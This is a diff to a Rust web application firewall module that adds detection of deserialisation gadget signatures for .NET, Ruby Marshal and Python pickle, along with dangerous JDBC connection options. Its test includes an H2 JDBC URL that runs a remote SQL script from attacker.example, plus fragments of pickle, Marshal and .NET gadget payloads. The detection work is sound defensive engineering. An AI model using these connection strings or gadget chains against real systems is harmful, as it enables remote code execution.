@@ -21,25 +21,44 @@ pub(crate) struct Java {
 }
 
 /// Class names of deserialisation gadget chains (Commons Collections, XMLDecoder, and
-/// `ProcessBuilder`) that no ordinary value carries, base64-encoded or not; and the function
+/// `ProcessBuilder`) that no ordinary value carries, base64-encoded or not; the function
 /// marker of node-serialize (`_$$ND_FUNC$$_`), whose objects run code when read back and
-/// travel base64-encoded in cookies too.
-const GADGETS: &[&str] = &[
-    "_$$nd_func$$_",
-    "processbuilder",
-    "clonetransformer",
-    "forclosure",
-    "instantiatefactory",
-    "instantiatetransformer",
-    "invokertransformer",
-    "prototypeclonefactory",
-    "prototypeserializationfactory",
-    "whileclosure",
-    "xmldecoder",
+/// travel base64-encoded in cookies too; the .NET gadgets of ViewState and BinaryFormatter
+/// payloads; the RubyGems classes of Ruby's universal Marshal chain; and the pickle opcodes
+/// that import a command runner (`cos\nsystem`, protocol 4's `\x8c\x05posix`).
+const GADGETS: &[&[u8]] = &[
+    b"_$$nd_func$$_",
+    b"typeconfusedelegate",
+    b"objectdataprovider",
+    b"textformattingrunproperties",
+    b"system.diagnostics.process",
+    b"gem::requirement",
+    b"gem::package::tarreader",
+    b"net::bufferedio",
+    b"gem::specfetcher",
+    b"cos\nsystem",
+    b"cposix\nsystem",
+    b"cnt\nsystem",
+    b"csubprocess\n",
+    b"cbuiltins\neval",
+    b"c__builtin__\neval",
+    b"\x8c\x05posix",
+    b"\x8c\x02nt\x94",
+    b"\x8c\nsubprocess",
+    b"processbuilder",
+    b"clonetransformer",
+    b"forclosure",
+    b"instantiatefactory",
+    b"instantiatetransformer",
+    b"invokertransformer",
+    b"prototypeclonefactory",
+    b"prototypeserializationfactory",
+    b"whileclosure",
+    b"xmldecoder",
 ];
 
 /// Weaker words, flagged in base64 only from paranoia 3.
-const KEYWORDS: &[&str] = &["runtime", "getproperty", "filewriter"];
+const KEYWORDS: &[&[u8]] = &[b"runtime", b"getproperty", b"filewriter"];
 
 /// Base64 without padding that keeps the bits after a fragment's last whole byte (a token cut
 /// out of a longer stream rarely ends on a group boundary).
@@ -61,6 +80,13 @@ impl Java {
     pub(crate) fn new() -> Result<Self, WafError> {
         let patterns = Patterns::new(&[
             (JAVA_JNDI, r"\$\{[^}]{0,60}\$\{"),
+            // H2 runs `INIT` scripts (`RUNSCRIPT FROM 'http://...'`); MySQL Connector/J
+            // deserialises with `autoDeserialize` and reads local files with
+            // `allowLoadLocalInfile`; socket and logger factories load classes.
+            (
+                JAVA_JDBC,
+                r"jdbc:[a-z0-9]+:[^\s'\x22]*(?:;\s*init\s*=|[?&;](?:autodeserialize|allowloadlocalinfile|allowurlinlocalinfile|socketfactory|socketfactoryarg|sslfactory|loggerlevel|loggerfile|queryinterceptors|statementinterceptors)\s*=)",
+            ),
             (
                 JAVA_JNDI,
                 r"\$\{\s*(?:jndi|ldap|ldaps|rmi|dns|iiop|corba|nds|nis|lower|upper|env|sys|date|java|main|bundle|ctx|docker|k8s|log4j|spring|web|marker|sd|map|base64|event|jvmrunargs)\s*:",
@@ -71,7 +97,7 @@ impl Java {
             ),
             (
                 JAVA_CLASS,
-                r"\b(?:com\.opensymphony\.xwork2|com\.sun\.org\.apache|org\.omg\.corba|java\.(?:lang\.)?(?:runtime|processbuilder)\b|processbuilder|processimpl|runtime\s*\.\s*getruntime|getruntime\s*\(|invokertransformer|chainedtransformer|constanttransformer|instantiatetransformer|instantiatefactory|templatesimpl|jdbcrowsetimpl|unicastref|unicastremoteobject|scriptenginemanager|urlclassloader|bytearrayinputstream|objectinputstream|xstream|org\.apache\.commons\.collections|org\.apache\.xalan|org\.springframework\.(?:context\.support\.(?:classpath|filesystem)xmlapplicationcontext|beans\.factory\.objectfactory|transaction\.jta\.jtatransactionmanager|core\.serializabletypewrapper|expression\.)|org\.codehaus\.groovy|com\.mchange\.v2|bsh\.interpreter|java\.lang\.reflect|sun\.misc\.unsafe)",
+                r"\b(?:com\.opensymphony\.xwork2|com\.sun\.org\.apache|org\.omg\.corba|java\.(?:lang\.)?(?:runtime|processbuilder)\b|processbuilder|processimpl|runtime\s*\.\s*getruntime|getruntime\s*\(|invokertransformer|chainedtransformer|constanttransformer|instantiatetransformer|instantiatefactory|templatesimpl|jdbcrowsetimpl|unicastref|unicastremoteobject|scriptenginemanager|urlclassloader|bytearrayinputstream|objectinputstream|xstream|org\.apache\.commons\.collections|org\.apache\.xalan|org\.springframework\.(?:context\.support\.(?:classpath|filesystem)xmlapplicationcontext|beans\.factory\.objectfactory|transaction\.jta\.jtatransactionmanager|core\.serializabletypewrapper|expression\.)|org\.codehaus\.groovy|com\.mchange\.v2|bsh\.interpreter|java\.lang\.reflect|sun\.misc\.unsafe|objectdataprovider|typeconfusedelegate|textformattingrunproperties|clr-namespace:system\.diagnostics|system\.diagnostics\.process\b)",
             ),
             (JAVA_CLASS, r#"["']@type["']\s*:\s*["'][a-z]"#),
             (
@@ -436,5 +462,34 @@ mod tests {
             );
         }
         assert!(hits(Kind::Value, "query:x", "java.lang.ProcessBuilder", 1).contains(&JAVA_CLASS));
+    }
+
+    #[test]
+    fn jdbc_options_and_other_runtimes_gadgets() {
+        let h2 = "jdbc:h2:mem:test;TRACE_LEVEL_SYSTEM_OUT=3;INIT=RUNSCRIPT FROM 'http://attacker.example/init.sql'";
+        assert!(hits(Kind::Value, "json:/url", h2, 1).contains(&JAVA_JDBC));
+        let mysql = "jdbc:mysql://db.example.com:3306/x?autoDeserialize=true&queryInterceptors=x";
+        assert!(hits(Kind::Value, "json:/url", mysql, 1).contains(&JAVA_JDBC));
+        assert!(
+            !hits(
+                Kind::Value,
+                "json:/url",
+                "jdbc:postgresql://db.example.com:5432/app?sslmode=require",
+                1
+            )
+            .contains(&JAVA_JDBC)
+        );
+        use base64::Engine as _;
+        let b64 = |b: &[u8]| base64::engine::general_purpose::STANDARD.encode(b);
+        for blob in [
+            &b"\x80\x04\x95\x20\0\0\0\0\0\0\0\x8c\x05posix\x94\x8c\x06system\x94\x93\x94"[..],
+            b"\x04\x08[\x08c\x15Gem::SpecFetcherc\x13Gem::InstallerU:\x15Gem::Requirement",
+            b"\0\x01\0\0\0\xff\xff\xff\xffSystem.Collections.Generic.SortedSet TypeConfuseDelegate",
+        ] {
+            assert!(
+                hits(Kind::Value, "form:state", &b64(blob), 1).contains(&JAVA_BASE64_GADGET),
+                "{blob:?}"
+            );
+        }
     }
 }
